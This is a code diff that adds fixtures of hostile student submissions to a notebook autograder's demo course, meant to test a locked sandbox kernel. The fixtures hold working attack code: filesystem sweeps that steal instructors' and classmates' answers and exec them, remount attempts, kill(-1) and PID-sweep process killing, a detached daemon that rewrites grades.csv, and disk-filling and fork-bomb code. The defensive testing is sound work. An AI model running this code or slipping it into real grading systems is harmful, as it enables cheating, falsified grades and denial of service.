@@ -41,6 +41,7 @@ __all__ = [
     "DEMO_ASSIGNMENTS",
     "HONEST_01",
     "HOSTILE_01",
+    "LOCKED_01",
     "Sample",
     "build_demo_course",
     "check_report",
@@ -57,6 +58,9 @@ c.CourseGrade.timeout = {timeout}
 c.CourseGrade.memory_mb = {memory_mb}
 c.CourseGrade.kill_grace = {kill_grace}
 c.CourseGrade.in_kernel_tests = {in_kernel}
+c.CourseGrade.disk_mb = 64
+c.CourseGrade.max_processes = 32
+c.CourseGrade.submission_timeout = 120
 '''
 
 _FORGOT_RELU = '''
@@ -330,6 +334,126 @@ while True:
 }
 
 
+# Notebook 01: attacks on the machine rather than on the tests, answered by the locked kernel.
+# They run only where every layer of it is on (a kill(-1) outside a PID namespace would reach
+# the grader's own processes); the demo says when it leaves them out.
+LOCKED_01: dict[str, dict[str, Any]] = {
+    "hostile-reads-source": {
+        "description": "looks for the instructor's notebook, classmates' answers and the gradebook",
+        "replace": {"forward": _FORGOT_RELU + '''
+import glob
+import json
+import os
+
+_patterns = ["../../../source/*/*.ipynb", "../../../../source/*/*.ipynb", "/work/*/solutions/*/*.ipynb",
+             "../../*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "/tmp/course-grade-*/*/source/*/*.ipynb",
+             "../../../*.db", "../../../../*.db", "/tmp/course-grade-*/*/gradebook.db"]
+_found = sorted({p for pattern in _patterns for p in glob.glob(pattern)})
+_seen = 0
+for _top in os.listdir("/"):
+    if _top in ("proc", "sys", "usr", "dev") or os.path.islink("/" + _top):  # skip the system
+        continue
+    for _root, _dirs, _files in os.walk("/" + _top):
+        _seen += len(_files)
+        _found += [os.path.join(_root, f) for f in _files
+                   if f.endswith((".ipynb", ".db")) and os.path.join(_root, f) not in _found]
+        if _seen > 50_000:
+            break
+_found = [p for p in _found if not os.path.samefile(os.path.dirname(p) or ".", ".")]
+print("notebooks or gradebooks found outside its own folder:", len(_found))
+for _path in _found:
+    if _path.endswith(".ipynb"):
+        for _cell in json.load(open(_path))["cells"]:
+            if "def two_layer_forward" in "".join(_cell["source"]):  # someone's answer: take it
+                exec("".join(_cell["source"]))
+'''},
+        "loses": ["test-forward"],
+        "status": "suspicious",
+    },
+    "hostile-root-tricks": {
+        "description": "remounts, signals every process, leaves a daemon to rewrite grades.csv later",
+        "replace": {"backward": '''
+import ctypes
+import glob
+import os
+import signal
+import socket
+import time
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_results = {
+    "remount / writable": _libc.mount(None, b"/", None, 32, None),
+    "remount /usr writable": _libc.mount(None, b"/usr", None, 32 | 4096, None),
+    "mount a new /proc": _libc.mount(b"proc", b"/tmp", b"proc", 0, None),
+}
+print({k: "refused" if v else "done" for k, v in _results.items()})
+try:
+    os.kill(-1, signal.SIGKILL)  # every process it may signal: the fork server, the grader, classmates?
+except OSError as _err:
+    print("kill(-1):", type(_err).__name__)
+_killed = 0
+_own = {int(t) for t in os.listdir("/proc/self/task")}
+for _pid in set(range(2, 4 * 32768)) - _own:
+    try:
+        os.kill(_pid, signal.SIGKILL)
+        _killed += 1
+    except OSError:
+        pass
+print("other processes killed:", _killed)
+try:
+    socket.create_connection(("192.0.2.1", 80), timeout=1)
+except OSError as _err:
+    print("network:", type(_err).__name__)
+if os.fork() == 0:  # a daemon: detach and rewrite the results after the run
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(600):
+            for _path in glob.glob("../../../grades.csv") + glob.glob("/tmp/*/grades.csv"):
+                with open(_path, "w") as _fh:
+                    _fh.write("student,total\\nhostile-root-tricks,100\\n")
+            time.sleep(0.5)
+        os._exit(0)
+    os._exit(0)
+os.wait()
+''' + _WRONG_MASK},
+        "loses": ["test-backward"],
+        "status": "suspicious",
+    },
+    "hostile-exhausts-resources": {
+        "description": "fills its folder, /tmp and /dev/shm, forks without end, prints a 64 MB line",
+        "replace": {"sgd": '''
+import os
+import time
+
+_written = {}
+for _path, _mb in (("filler.bin", 2048), ("/dev/shm/filler", 1024), ("/tmp/filler", 1024)):
+    _written[_path] = 0
+    try:
+        with open(_path, "wb") as _fh:
+            for _ in range(_mb):
+                _fh.write(b"x" * (1 << 20))
+                _written[_path] += 1
+    except OSError:
+        pass
+print("MiB written:", _written)
+print("x" * (64 << 20))  # one 64 MB line: more than the grader keeps of a cell's output
+_children = 0
+try:
+    for _ in range(5000):
+        if os.fork() == 0:
+            time.sleep(2)
+            os._exit(0)
+        _children += 1
+except OSError:
+    pass
+print("children started:", _children)
+''' + _REBINDS},
+        "loses": ["test-sgd"],
+        "status": "ok",
+    },
+}
+
+
 # Notebook 01: right answers written the way honest students do, with noise on stderr
 # (logging, warnings, tqdm) inside the functions the tests call. Full marks, status ok.
 HONEST_01: dict[str, dict[str, Any]] = {
@@ -405,8 +529,13 @@ def _delete_test_sgd(nb: nbformat.NotebookNode) -> None:
     nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test-sgd"]
 
 
-def samples(assignment: str, root: Path | None = None, *, hostile: bool = True) -> list[Sample]:
-    """The sample submissions of one assignment (hostile and broken ones for notebook 01)."""
+def samples(assignment: str, root: Path | None = None, *, hostile: bool = True,
+            locked: bool = True) -> list[Sample]:
+    """The sample submissions of one assignment (hostile and broken ones for notebook 01).
+
+    ``locked``: every layer of the locked kernel is on here, so the attacks on the machine
+    itself (:data:`LOCKED_01`) are included.
+    """
     root = root or project_root()
     found = [Sample("correct", assignment, "the reference solution", replace={}, loses=()),
              Sample("untouched", assignment, "the student version as released")]
@@ -417,7 +546,7 @@ def samples(assignment: str, root: Path | None = None, *, hostile: bool = True) 
         return found
     for student, case in HONEST_01.items():
         found.append(Sample(student, assignment, case["description"], replace=case["replace"], loses=()))
-    for student, case in HOSTILE_01.items():
+    for student, case in [*HOSTILE_01.items(), *(LOCKED_01.items() if locked else [])]:
         found.append(Sample(student, assignment, case["description"], replace=case["replace"],
                             loses=tuple(case["loses"]), status=case["status"]))
     found += [
@@ -441,9 +570,18 @@ def samples(assignment: str, root: Path | None = None, *, hostile: bool = True) 
 
 def build_demo_course(dest: Path, assignments: Sequence[str] = DEMO_ASSIGNMENTS, *,
                       root: Path | None = None, timeout: int = 10, memory_mb: int = 2048,
-                      kill_grace: float = 3.0, hostile: bool = True) -> list[Sample]:
-    """Lay out a course directory in ``dest`` with every sample submission; return the samples."""
+                      kill_grace: float = 3.0, hostile: bool = True, locked: bool | None = None
+                      ) -> list[Sample]:
+    """Lay out a course directory in ``dest`` with every sample submission; return the samples.
+
+    ``locked`` (default: whether the sandbox probe finds every protection on) includes the
+    attacks on the machine itself.
+    """
     root = root or project_root()
+    if locked is None:
+        from course_utils.grader import sandbox
+
+        locked = not sandbox.probe(sandbox.SandboxSpec(memory_mb=memory_mb))
     dest.mkdir(parents=True, exist_ok=True)
     (dest / "nbgrader_config.py").write_text(
         DEMO_CONFIG.format(timeout=timeout, memory_mb=memory_mb, kill_grace=kill_grace,
@@ -457,7 +595,7 @@ def build_demo_course(dest: Path, assignments: Sequence[str] = DEMO_ASSIGNMENTS,
 
     everything = []
     for name in assignments:
-        listed = samples(name, root, hostile=hostile)
+        listed = samples(name, root, hostile=hostile, locked=locked)
         everything += listed
         for release_path in sorted((dest / "release" / name).glob("*.ipynb")):
             release_nb = nbformat.read(release_path, as_version=4)
